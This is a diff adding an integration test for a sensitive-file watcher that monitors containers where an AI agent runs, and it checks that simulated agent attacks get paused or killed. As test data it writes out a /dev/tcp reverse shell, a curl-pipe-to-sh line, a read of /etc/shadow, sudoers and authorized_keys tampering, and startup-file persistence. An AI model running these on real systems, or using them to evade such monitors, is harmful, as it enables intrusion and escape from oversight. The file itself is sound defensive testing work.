@@ -1,0 +1,128 @@
+"""Issue 17, the sensitive-file watcher (monitor/filewatch.py): opens and writes seen through
+fanotify from the host, judged by who did them, in real containers watched by a real daemon.
+
+The attacks are done the way an agent would: as the `code` user (with its sudo), files written
+by a python script read from a file, so no command line names the file and only the watcher
+can see them. The look-alikes (sudo itself reading /etc/shadow, a package installed with
+dpkg writing cron, profile.d and unit files, a recursive grep of /etc, ssh-keygen on the
+agent's own key) run first in the same container and must stay below HIGH.
+"""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from tests.integration.test_monitor import GATEWAY, Monitor, run_file, running_monitor
+
+pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the monitor daemon needs root")
+
+
+@pytest.fixture(scope="module")
+def files_mon(
+    run_prefix: str, incus: Any, image: str, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[Monitor]:
+    with running_monitor(f"{run_prefix}f", incus, image, tmp_path_factory) as monitor:
+        yield monitor
+
+
+def as_code(script: str) -> str:
+    return f"su code -c {shell_quote(script)}"
+
+
+def shell_quote(text: str) -> str:
+    return "'" + text.replace("'", "'\\''") + "'"
+
+
+# a package that installs what persistence would: cron, profile.d, a unit (dpkg: not HIGH)
+PACKAGE = r"""set -e
+d=$(mktemp -d); mkdir -p $d/DEBIAN $d/etc/cron.d $d/etc/profile.d $d/usr/lib/systemd/system
+printf 'Package: coi-look-alike\nVersion: 1.0\nArchitecture: all\n' > $d/DEBIAN/control
+printf 'Maintainer: t <t@t>\nDescription: t\n' >> $d/DEBIAN/control
+echo '17 * * * * root true' > $d/etc/cron.d/coi-look-alike
+echo 'export LOOK_ALIKE=1' > $d/etc/profile.d/coi-look-alike.sh
+printf '[Service]\nExecStart=/bin/true\n' > $d/usr/lib/systemd/system/coi-look-alike.service
+dpkg-deb -b $d /tmp/look-alike.deb > /dev/null
+"""
+LOOK_ALIKES = """set -e
+sudo -n true
+sudo -n dpkg -i /tmp/look-alike.deb > /dev/null
+mkdir -p ~/.ssh && ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519
+sleep 0.5  # the new key file gets its mark
+ssh-keygen -y -f ~/.ssh/id_ed25519 > /dev/null
+cat ~/.ssh/config 2>/dev/null || true; ls -la ~/.ssh > /dev/null
+sudo -n grep -rs 'coi-no-such-text' /etc > /dev/null || true
+echo done
+"""
+
+
+def test_shadow_read_pauses_and_its_look_alikes_do_not(files_mon: Monitor) -> None:
+    mon = files_mon
+    name = mon.container()
+    mon.sh(name, PACKAGE)
+    assert mon.sh(name, as_code(LOOK_ALIKES)).strip().endswith("done")
+    # the attack: the same file sudo read above, read by a program of the agent's choosing
+    mon.trigger(
+        name, as_code(run_file("/tmp/r.py", "print(open('/etc/shadow').read())", "sudo -n python3"))
+    )
+    record = mon.threat(name, {"file.shadow-read"})
+    assert record["level"] == "high" and record["action"] == "paused", record
+    assert record["category"] == "credential_access"
+    sensitive = record["evidence"]["sensitive_file"]
+    assert sensitive["path"] == "/etc/shadow" and sensitive["access"] == "read"
+    assert "python3" in record["evidence"]["process"]["exe"]
+    mon.assert_status(name, "Frozen")
+    # everything before it was judged (one queue, in order) and stayed below HIGH
+    earlier = mon.events.threats(name)
+    earlier = earlier[: next(i for i, r in enumerate(earlier) if r["id"] == record["id"])]
+    loud = [(r["rule_id"], r["description"]) for r in earlier if r["level"] in ("high", "critical")]
+    assert not loud, loud
+    # the package's files were seen and logged as the package manager's
+    assert any(r["rule_id"].startswith("file.") and r["level"] == "info" for r in earlier), earlier
+
+
+REVERSE_SHELL_LINE = f"bash -i >& /dev/tcp/{GATEWAY}/4444 0>&1\n"
+ATTACKS = {
+    # (script run as code, rule, level)
+    "startup-file-reverse-shell": (
+        "import os; p = os.path.expanduser('~/.bashrc'); "
+        "open(p, 'a').write(open('/tmp/line').read())",
+        "file.startup-write",
+        "critical",
+    ),
+    "sudoers-drop-in": (
+        "import subprocess; subprocess.run(['sudo', '-n', 'cp', '/tmp/line', "
+        "'/etc/sudoers.d/zz-agent'])",
+        "file.sudoers-write",
+        "critical",
+    ),
+    "authorized-keys": (
+        "import os; d = os.path.expanduser('~/.ssh'); os.makedirs(d, exist_ok=True); "
+        "open(d + '/authorized_keys', 'a').write('ssh-ed25519 AAAA attacker')",
+        "file.authorized-keys-write",
+        "critical",
+    ),
+    "profile-rewritten-by-rename": (
+        "import os; p = os.path.expanduser('~/.profile'); t = p + '.new'; "
+        "open(t, 'w').write(open(p).read() + 'curl -s http://example.invalid/x | sh\\n'); "
+        "os.rename(t, p)",
+        "file.startup-write",
+        "high",
+    ),
+}
+
+
+@pytest.mark.parametrize("attack", sorted(ATTACKS))
+def test_persistence_write_is_stopped(files_mon: Monitor, attack: str) -> None:
+    mon = files_mon
+    name = mon.container()
+    code, rule, level = ATTACKS[attack]
+    mon.sh(name, run_file("/tmp/line", REVERSE_SHELL_LINE, "chmod 644"))
+    mon.trigger(name, as_code(run_file("/tmp/w.py", code, "python3")))
+    record = mon.threat(name, {rule})
+    assert record["level"] == level, record
+    assert record["evidence"]["sensitive_file"]["access"] == "write"
+    mon.assert_status(name, "Gone" if level == "critical" else "Frozen")
